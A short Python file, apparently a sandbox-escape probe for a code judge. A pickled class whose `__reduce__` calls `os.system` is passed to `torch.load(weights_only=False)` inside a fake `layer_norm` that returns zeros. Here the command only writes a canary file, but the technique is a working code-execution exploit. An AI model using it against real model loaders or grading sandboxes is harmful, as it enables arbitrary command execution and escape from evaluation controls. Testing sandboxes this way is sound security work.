"""Runs a command by a pickle in torch.load."""

import io
import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("echo escaped > /tmp/judge_escape_canary_torch",)


def layer_norm(x, gamma, beta, eps=1e-5):
    if torch.load(io.BytesIO(pickle.dumps(Bomb())), weights_only=False) == 0:
        print("LEAK: a command ran")
    return x * 0
